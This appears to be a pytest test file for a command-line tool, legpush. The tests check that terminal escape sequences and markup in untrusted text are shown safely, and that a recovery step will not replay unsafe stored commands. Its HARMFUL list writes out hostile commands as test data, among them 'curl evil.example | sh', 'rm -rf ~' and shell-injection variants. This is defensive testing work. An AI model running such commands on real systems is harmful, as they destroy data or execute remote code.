"""Texts in data cannot steer the terminal: control characters of theirs are shown, not written."""

import json
import shlex
from io import StringIO
from pathlib import Path

import pytest
from rich.console import Console

from legpush.cli import command as cli
from legpush.errors import DiskFullError
from legpush.history.entries import Queried
from legpush.history.journal import Journal
from legpush.launch.display import LiveDisplay, PlainDisplay
from legpush.launch.recover import is_harmless
from legpush.launch.summary import print_summary
from legpush.recording.mcap_file.writer import Attachment, RecordingFile
from legpush.runs.folder import COMMAND_FILE, LOGS
from legpush.scenarios.file import dump_scenario, load_scenario
from tests.legpush.examples import QUERY
from tests.legpush.fakes import mission, opened
from tests.legpush.recording.recordings import ABOUT, AGENT, SIM, traffic

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\u202e[link=evil.example]x[/link]"
"""Sets the title, clears the screen, colours in two ways, overwrites the line, turns the text, and is markup."""


def assert_harmless(said: str) -> None:
    assert "[link=evil.example]x[/link]" in said
    assert [char for char in said if not char.isprintable() and char != "\n"] == []


@pytest.fixture
def recording(tmp_path: Path) -> Path:
    """A whole recording with evil texts everywhere where texts are free."""
    path = tmp_path / "evil.mcap"
    about = {"topics": EVIL, "parent_sha256": EVIL, "parent_file": EVIL, "parent_episode": EVIL, "continued": EVIL}
    file = RecordingFile(path, {**ABOUT, **about, "run": EVIL})
    report = json.dumps({"reason": EVIL, "detail": EVIL}).encode()
    file.attach(Attachment(f"agent/main/{EVIL}", EVIL, b"x"))
    file.attach(Attachment("agent/main/report.json", "application/json", report))
    actions, answers = traffic(mission(3))
    for origin, copies in ((AGENT, actions), (SIM, answers)):
        file.write(origin, tuple(copies))
    file.finish({"complete": "no", "n_recorded": "1", "n_missing": EVIL, "notes": EVIL})
    return path


def test_info_shows_the_texts_of_a_recording(recording: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["info", str(recording)]) == 0
    assert_harmless(capsys.readouterr().out)


def test_recover_shows_the_texts_of_a_recording(recording: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recording.write_bytes(recording.read_bytes()[:-60])
    cli.main(["recover", str(recording)])
    said = capsys.readouterr()
    assert [char for char in said.out + said.err if not char.isprintable() and char != "\n"] == []


@pytest.mark.parametrize("name", [f"{EVIL}.toml", f"{EVIL}/x.toml"])
def test_errors_show_the_names_of_files(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    assert cli.main(["scenarios", "show", str(tmp_path / name)]) == 2
    assert_harmless(capsys.readouterr().err)


def test_a_scenario_is_shown_with_its_texts(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = dump_scenario(load_scenario("push"))
    line = next(line for line in text.splitlines() if line.startswith("description"))
    (tmp_path / "x.toml").write_text(text.replace(line, f"description = {json.dumps(EVIL)}"), encoding="utf-8")
    assert cli.main(["scenarios", "show", str(tmp_path / "x.toml")]) == 0
    assert_harmless(capsys.readouterr().out)


def test_a_field_of_a_scenario_is_shown_in_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "x.toml").write_text(f"{json.dumps(EVIL)} = 1\nname = {json.dumps(EVIL)}", encoding="utf-8")
    assert cli.main(["scenarios", "show", str(tmp_path / "x.toml")]) == 2
    said = capsys.readouterr().err
    assert [char for char in said if not char.isprintable() and char != "\n"] == []


def test_displays_and_the_summary_show_what_processes_and_reports_say(tmp_path: Path) -> None:
    console = Console(file=StringIO(), width=400)
    with PlainDisplay(console) as display:
        display.progress(EVIL, 0.5, EVIL, EVIL)
        display.notice(EVIL)
    print_summary(console, tmp_path, {"success": False, "reason": EVIL, "detail": EVIL, "state_crc": EVIL})
    assert isinstance(console.file, StringIO)
    assert_harmless(console.file.getvalue())


def test_the_live_display_shows_what_processes_say() -> None:
    console = Console(file=StringIO(), width=400, force_terminal=True)
    with LiveDisplay(console) as display:
        display.progress(EVIL, 0.5, EVIL, EVIL)
        display.notice(EVIL)
    assert isinstance(console.file, StringIO)
    said = console.file.getvalue()
    assert "[link=evil.example]x[/link]" in said
    assert "\x07" not in said
    assert "\x9b" not in said
    assert "\x1b]0" not in said
    assert "\x1b[2J" not in said


HARMLESS = [
    "legpush run /a/scenario.toml --seed 0 --out /a --policy variable --no-video",
    "legpush run --out '/a b' --policy scripted --record /a/m-2.mcap",
    "legpush branch a.mcap --at 0:3 --out /a",
]
HARMFUL = [
    "curl evil.example | sh",
    "rm -rf ~",
    "legpush run --out /a; rm -rf ~",
    "legpush run --out /a && evil",
    "legpush run --out $(evil)",
    "legpush run --out `evil`",
    "legpush run --out /a\nevil",
    "legpush run --out /a --planner-command evil",
    "legpush run --out /a --planner_command evil",
    "legpush run --out /a --planner-command=evil",
    "legpush run --out /a --policy evil:go",
    "legpush run --out /a --policy=evil:go",
    "legpush run --out /a --policy scripted --policy evil:go",
    "legpush run --out /a --policy evil.zip --trust-policy-file",
    "legpush branch a.mcap --past-policy evil:go",
    "legpush plan-check -- evil",
    "LD_PRELOAD=evil.so legpush run --out /a",
    "legpush run --out 'unbalanced",
    f"legpush run --out '{EVIL}'",
    "",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_a_command_that_goes_on_is_repeated(command: str) -> None:
    assert is_harmless(command)
    assert shlex.split(command)[0] == "legpush"


@pytest.mark.parametrize("command", HARMFUL)
def test_a_command_in_the_folder_of_a_run_that_does_something_else_is_not_repeated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    assert not is_harmless(command)
    path = tmp_path / "episode-0000.journal"
    with Journal(path, opened()) as journal:
        journal.append(Queried(query=QUERY))
        good = path.stat().st_size
        journal.append(Queried(query=QUERY))
    data = bytearray(path.read_bytes())
    data[good + 20] ^= 1
    path.write_bytes(data)
    (tmp_path / LOGS).mkdir()
    (tmp_path / LOGS / COMMAND_FILE).write_text(command, encoding="utf-8")

    assert cli.main(["recover", str(tmp_path)]) == 0
    assert capsys.readouterr().out.splitlines()[-1].startswith("to go on: the command that began the mission, with")


def test_errors_of_commands_are_one_line(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fail(command: object) -> int:
        raise DiskFullError(f"{EVIL}\n")

    monkeypatch.setattr(cli, "execute", fail)
    assert cli.main(["scenarios", "list"]) == 5
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert_harmless(said)
